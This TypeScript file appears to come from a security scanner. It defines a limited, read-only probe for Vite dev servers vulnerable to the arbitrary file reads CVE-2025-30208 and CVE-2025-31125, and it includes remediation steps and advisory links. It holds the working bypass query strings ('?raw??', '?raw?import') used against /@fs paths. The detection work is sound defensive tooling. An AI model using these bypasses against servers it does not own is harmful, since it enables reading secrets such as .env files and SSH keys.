import type { Exchange, Script } from '../../../model/artifacts.ts'
import { activeProbe, type ProbeContext } from '../../../model/probe.ts'
import type { ProbeRequest } from '../../../model/probeRequest.ts'
import { observeProbe } from '../../../report/evidence/observeProbe.ts'
import { isViteClient, listPackageFiles, readRawPackage } from './_viteFiles.ts'

/** Source: GHSA-x574-m823-4x7w for the first two, then GHSA-4r4m-qw57-chr8. */
const bypassingQueries = ['?raw??', '?import&raw??', '?raw?import'] as const

/**
 * Finds Vite dev servers with the arbitrary file reads CVE-2025-30208 and CVE-2025-31125.
 *
 * Certain: a `package.json` that the server refuses is returned as a module with the query `?raw??` or `?raw?import`.
 * The probe keeps only the names of its fields. It requests only files that the application's own modules name, never
 * system files. Fires on 6.2.2 and 6.2.3; not on 6.2.4, nor where the file is readable anyway. Sources:
 * GHSA-x574-m823-4x7w, GHSA-4r4m-qw57-chr8.
 */
export default activeProbe({
  id: 'framework.vite-fs',
  cwe: 22,
  severity: 'high',
  owner: 'operator',
  intensity: 'safe',
  effect: 'reads',
  budget: { perScan: 12, perEntry: 0 },
  title: 'Vite dev server arbitrary file read (CVE-2025-30208, CVE-2025-31125)',
  why: 'Anyone can read every file that the process can read: `.env` with its keys, SSH keys, the source code of other projects. A dev server must not be reachable from the internet.',
  fix: {
    steps:
      '1. Stop the dev server: it must not be reachable from outside. Deploy a build instead: `npm run build`, and serve the folder `dist` with a web server or a static host.\n2. Remove `--host` and `server.host` from the scripts and from `vite.config`, and close the port in the firewall. Use a preview deployment to share work.\n3. Upgrade `vite` within its line, at least to 4.5.14, 5.4.19, 6.1.6, 6.2.7 or 6.3.4, preferably to the latest release, because similar vulnerabilities were fixed later: `npm install -D vite@6`.\n4. Rotate every secret in files on that machine, starting with `.env`: assume that they were read.',
    risk: 'Users of the public dev server lose access: give them a preview deployment. Environment variables are read at build time, so set them in the build environment.',
    verify:
      'Repeat the request with the `curl` command from the evidence from another machine. The port is closed, or the response is 403 with `Restricted` as without the query.',
  },
  references: [
    'https://github.com/vitejs/vite/security/advisories/GHSA-x574-m823-4x7w',
    'https://github.com/vitejs/vite/security/advisories/GHSA-4r4m-qw57-chr8',
    'https://nvd.nist.gov/vuln/detail/CVE-2025-30208',
    'https://vite.dev/config/server-options#server-host',
  ],
  needs: ['target', 'scripts'],
  skipReason({ artifacts: { scripts } }) {
    if (!scripts.some(isViteClient)) return 'not applicable: the target is not a Vite dev server'
    return filesOf(scripts).length === 0 ? 'no module names a file outside the web root' : null
  },
  async run({ artifacts: { target, scripts }, send }) {
    let refused = 0
    for (const file of filesOf(scripts)) {
      const url = `${target.origin}/@fs${encodeURI(file)}`
      const plain = await send({ url, as: 'anonymous' })
      if (!plain.ok || !isRestricted(plain.exchange)) continue
      refused += 1
      const observation = await bypass(url, file, send)
      if (observation !== null) return { observations: [observation], gap: null }
    }
    const gap =
      refused === 0
        ? 'the dev server refused none of the package.json files, so the bypass could not be tested'
        : null
    return { observations: [], gap }
  },
})

function filesOf(scripts: readonly Script[]): readonly string[] {
  return listPackageFiles(scripts.filter(({ isFirstParty }) => isFirstParty).map(({ text }) => text))
}

/** The shell of a single-page application is no refusal. */
function isRestricted({ status, body }: Exchange): boolean {
  return status === 403 && /403 Restricted|outside of Vite serving allow list/.test(body)
}

async function bypass(url: string, file: string, send: ProbeContext['send']) {
  for (const query of bypassingQueries) {
    const request: ProbeRequest = { url: `${url}${query}`, as: 'anonymous' }
    const response = await send(request)
    const read =
      response.ok && response.exchange.status === 200 ? readRawPackage(response.exchange.body) : null
    if (!response.ok || read === null) continue
    return observeProbe(request, response.exchange, {
      sample: `/@fs with ${query}`,
      place: 'fs',
      details: { file, without_query: 'HTTP 403 Restricted', fields: read.fields },
    })
  }
  return null
}
